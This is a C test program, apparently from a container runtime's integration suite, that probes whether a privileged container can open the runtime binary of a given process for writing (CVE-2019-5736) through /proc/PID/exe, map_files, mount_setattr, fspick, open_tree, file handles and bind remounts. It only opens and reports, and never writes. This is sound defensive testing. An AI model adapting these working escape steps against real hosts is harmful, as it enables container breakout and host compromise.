/* exe-attack /proc/PID: a privileged container's tries at getting the
 * binary that process PID runs opened for writing (CVE-2019-5736 with
 * CAP_SYS_ADMIN, CAP_SYS_PTRACE, CAP_DAC_READ_SEARCH).  One line per try,
 * "NAME=refused" (with why) or "NAME=WRITABLE"; nothing is ever written:
 * a writable open is the proof, and the tests also run it against other
 * runtimes' binaries.  tests/integration/runtime-exe.sh copies it,
 * statically linked, into the attacker's container.
 *
 * The tries: /proc/PID/exe and every /proc/PID/map_files entry opened for
 * writing; their mount made writable again by mount_setattr (the way a
 * detached read-only bind mount of the binary itself is undone), by a bind
 * mount of the file remounted read-write, by a clone of its mount
 * (open_tree) made read-write; fspick of its superblock (which could be
 * reconfigured read-write); and open_by_handle_at of the file's handle. */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>
#include <sched.h>
#include <stdlib.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

#ifndef SYS_open_tree
#define SYS_open_tree 428
#endif
#ifndef SYS_fspick
#define SYS_fspick 433
#endif
#ifndef SYS_mount_setattr
#define SYS_mount_setattr 442
#endif
#define OPEN_TREE_CLONE_    1
#define AT_RECURSIVE_       0x8000
#define FSPICK_EMPTY_PATH_  0x8
#define MOUNT_ATTR_RDONLY_  0x1

struct mount_attr_ {
	uint64_t attr_set, attr_clr, propagation, userns_fd;
};

static void report (const char *name, int fd, const char *step)
{
	if (fd >= 0) {
		printf ("%s=WRITABLE\n", name);
		close (fd);
	} else {
		printf ("%s=refused (%s: %s)\n", name, step, strerror (errno));
	}
}

/* Open what fd names for writing through /proc/self/fd (a reopen, as an
 * attacker holding an O_PATH fd would). */
static int reopen_rw (int fd)
{
	char p[64];

	snprintf (p, sizeof p, "/proc/self/fd/%d", fd);
	return open (p, O_WRONLY | O_APPEND);
}

static int setattr_rw (int fd)
{
	struct mount_attr_ a = {0, MOUNT_ATTR_RDONLY_, 0, 0};

	return (int)syscall (SYS_mount_setattr, fd, "", AT_EMPTY_PATH, &a, sizeof a);
}

int main (int argc, char **argv)
{
	char exe[256], maps[256], tgt[] = "/tmp/exe-attack-target";
	int fd, t;
	DIR *d;
	struct dirent *e;

	/* Only /proc/N: an empty N would attack /proc itself. */
	if (argc != 2 || strncmp (argv[1], "/proc/", 6) != 0 || !argv[1][6] ||
	    strspn (argv[1] + 6, "0123456789") != strlen (argv[1] + 6)) {
		fputs ("usage: exe-attack /proc/PID\n", stderr);
		return 2;
	}
	snprintf (exe, sizeof exe, "%s/exe", argv[1]);
	snprintf (maps, sizeof maps, "%s/map_files", argv[1]);

	report ("exe-open", open (exe, O_WRONLY | O_APPEND), "open exe for writing");

	/* Every mapping of the binary; map_files follows the vma's file. */
	d = opendir (maps);
	if (!d) {
		report ("map_files", -1, "opendir map_files");
	} else {
		int n = 0, w = -1;
		while ((e = readdir (d))) {
			char p[512];
			if (e->d_name[0] == '.')
				continue;
			snprintf (p, sizeof p, "%s/%s", maps, e->d_name);
			n++;
			fd = open (p, O_WRONLY | O_APPEND);
			if (fd >= 0) {
				char to[256];
				ssize_t k = readlink (p, to, sizeof to - 1);
				to[k > 0 ? k : 0] = '\0';
				printf ("# map_files: %s (%s) opened for writing\n", e->d_name, to);
				w = fd;
				break;
			}
		}
		closedir (d);
		printf ("# map_files: %d entries\n", n);
		report ("map_files", n == 0 ? (errno = ENOENT, -1) : w, "open a map_files entry for writing");
	}

	/* The mount the exe is on: clear its read-only flag in place. */
	fd = open (exe, O_PATH);
	if (fd < 0) {
		int e = errno;
		const char *tries[] = {"setattr", "fspick", "open_tree", "handle"};
		for (size_t i = 0; i < sizeof tries / sizeof tries[0]; i++) {
			errno = e;
			report (tries[i], -1, "open exe O_PATH");
		}
	} else {
		if (setattr_rw (fd) < 0)
			report ("setattr", -1, "mount_setattr");
		else
			report ("setattr", reopen_rw (fd), "reopen after mount_setattr");
		/* The superblock: a context to reconfigure it is the proof.  It
		 * is not used: behind another runtime's bind mount it is the
		 * host's own file system. */
		t = (int)syscall (SYS_fspick, fd, "", FSPICK_EMPTY_PATH_);
		if (t < 0) {
			report ("fspick", -1, "fspick");
		} else {
			printf ("fspick=REACHED (a context to reconfigure the exe's superblock)\n");
			close (t);
		}

		/* A clone of the exe's mount, ours to change. */
		t = (int)syscall (SYS_open_tree, fd, "", OPEN_TREE_CLONE_ | AT_EMPTY_PATH);
		if (t < 0)
			report ("open_tree", -1, "open_tree clone");
		else if (setattr_rw (t) < 0)
			report ("open_tree", -1, "mount_setattr on the clone");
		else
			report ("open_tree", reopen_rw (t), "reopen through the clone");

		/* A file handle reopened with the exe as the mount fd. */
		{
			struct {
				struct file_handle h;
				unsigned char b[128];
			} fh;
			int mnt_id;
			fh.h.handle_bytes = sizeof fh.b;
			if (name_to_handle_at (fd, "", &fh.h, &mnt_id, AT_EMPTY_PATH) < 0)
				report ("handle", -1, "name_to_handle_at");
			else
				report ("handle", open_by_handle_at (fd, &fh.h, O_WRONLY | O_APPEND),
				        "open_by_handle_at");
		}
		close (fd);
	}

	/* A bind mount of the exe in a mount namespace of our own (made
	 * here, so that the tmpfs below never covers the caller's /tmp),
	 * remounted rw. */
	if (unshare (CLONE_NEWNS) < 0 || mount (NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL) < 0) {
		report ("bind", -1, "a mount namespace of our own");
		return 0;
	}
	if (mount ("exe-attack", "/tmp", "tmpfs", 0, NULL) < 0 ||
	    (t = open (tgt, O_CREAT | O_WRONLY, 0600)) < 0 || close (t) < 0) {
		report ("bind", -1, "a tmpfs for the bind target");
	} else if (mount (exe, tgt, NULL, MS_BIND, NULL) < 0) {
		report ("bind", -1, "bind mount exe");
	} else if (mount (NULL, tgt, NULL, MS_REMOUNT | MS_BIND, NULL) < 0) {
		report ("bind", -1, "remount the bind rw");
	} else {
		report ("bind", open (tgt, O_WRONLY | O_APPEND), "open the bind for writing");
	}
	return 0;
}
